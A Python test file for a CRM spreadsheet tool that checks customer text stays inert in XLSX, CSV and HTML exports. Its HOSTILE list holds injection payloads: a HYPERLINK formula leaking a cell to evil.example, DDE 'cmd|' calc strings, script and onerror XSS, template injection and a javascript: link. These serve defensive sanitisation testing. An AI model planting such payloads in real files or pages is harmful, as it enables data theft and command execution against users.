"""What customers type is text behind every door: never a formula, a link, a script or a template."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

import crmsheet as crm
from crmsheet.analysis import analyze_workbook
from crmsheet.delimited import guarded, guarded_texts
from crmsheet.exchange import export_workbook
from crmsheet.report.followup_files import followup_text
from crmsheet.report.followups import select_followups
from tests.sheets import RECORD, RECORD_HEADERS

DAY = "2026-11-20"
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"发票")',
    "+cmd|' /C calc'!A0",
    '@SUM(evil)*cmd|"/C calc"!A0',
    "－2＋evil",  # noqa: RUF001 - full width is a formula, too, in Chinese locales
    "<script>evil()</script>{{7*7}}]]>",
    "<img src=x onerror=evil()>{% raw %}",
    "http://evil.example/支付",
    '"><a href="javascript:evil()">',
)


def _typed_as_text(path: Path, rows: list[list[object]]) -> Path:
    """A workbook whose texts are texts, also those that look like formulas."""
    plain = {"strings_to_formulas": False, "strings_to_urls": False, "default_date_format": "yyyy-mm-dd"}
    with xlsxwriter.Workbook(path, plain) as book:
        sheet = book.add_worksheet("客户需求记录")
        for number, row in enumerate(rows):
            sheet.write_row(number, 0, row)
    return path


@pytest.fixture(scope="module")
def team(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A refreshed workbook with each hostile text as name, need, note, owner and plan of one customer."""
    rows: list[list[object]] = [list(RECORD_HEADERS)]
    for number, text in enumerate(HOSTILE, start=1):
        row = dict(zip(RECORD_HEADERS, [f"C2024{number:03d}", *RECORD[1:]], strict=True))
        for header in ("客户名称", "备注", "负责人", "下次跟进计划"):
            row[header] = text
        row["显性需求"] = f'"{text}"'
        rows.append(list(row.values()))
    path = _typed_as_text(tmp_path_factory.mktemp("hostile") / "team.xlsx", rows)
    crm.refresh(path, as_of=DAY, backup=False)
    return path


_LITERAL = re.compile(r'"(?:[^"]|"")*"')  # a text inside a formula of ours


def _elements(path: Path, prefix: str) -> Iterator[etree._Element]:
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith(prefix) and name.endswith((".xml", ".rels")):
                yield from etree.fromstring(package.read(name)).iter("*")


def test_no_text_becomes_a_formula_or_a_link_in_the_workbook(team: Path) -> None:
    with zipfile.ZipFile(team) as package:
        assert b"evil.example" in package.read("xl/sharedStrings.xml") + b"".join(
            package.read(name) for name in package.namelist() if "worksheets/sheet" in name
        )
    for element in _elements(team, "xl/"):
        tag = etree.QName(element).localname
        if tag in ("f", "formula", "formula1", "formula2", "definedName"):
            outside = _LITERAL.sub("", element.text or "")
            assert not any(word in outside for word in ("evil", "cmd|")), element.text
        assert "evil" not in element.get("Target", "")
        assert tag not in ("ddeLink", "oleLink")


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_plain(cells: list[str]) -> None:
    assert any("evil" in cell for cell in cells)
    wrong = [
        cell
        for cell in cells
        if cell.lstrip()[:1] in tuple("=@+-＝＠＋－") and "evil" in cell or cell[:4] == "+cmd"
    ]  # noqa: RUF001
    assert wrong == []


def test_no_text_becomes_a_formula_in_csv(team: Path, tmp_path: Path) -> None:
    result = analyze_workbook(team, as_of=DAY)
    lines = select_followups(result, days=365)
    _assert_plain(_csv_cells(followup_text(result, lines, "csv", days=365)))
    _assert_plain(_csv_cells(guarded_texts(crm.check(team, as_of=DAY)).to_csv()))
    export_workbook(team, tmp_path / "out", to="csv", as_of=DAY)
    for name in ("customers", "requirements"):
        _assert_plain(_csv_cells((tmp_path / "out" / f"{name}.csv").read_text(encoding="utf-8-sig")))


class _Page(HTMLParser):
    """Tags a browser would see."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def test_no_text_becomes_an_element_of_a_page(team: Path, tmp_path: Path) -> None:
    result = analyze_workbook(team, as_of=DAY)
    result.report(tmp_path / "报告.html")
    pages = [
        (tmp_path / "报告.html").read_text(encoding="utf-8"),
        followup_text(result, select_followups(result, days=365), "html", days=365),
    ]
    for page in pages:
        assert "evil" in page
        assert "<script>evil" not in page
        for tag, attributes in _Page(page).tags:
            assert tag != "img" or "onerror" not in attributes
            assert "evil" not in (attributes.get("href") or "")


@given(st.text())
def test_a_guarded_cell_starts_no_formula(text: str) -> None:
    cell = str(guarded(text))
    assert cell.removeprefix("'") == text or cell == text
    if cell.lstrip()[:1] in ("=", "@", "＝", "＠"):  # noqa: RUF001
        pytest.fail(f"a formula: {cell!r}")
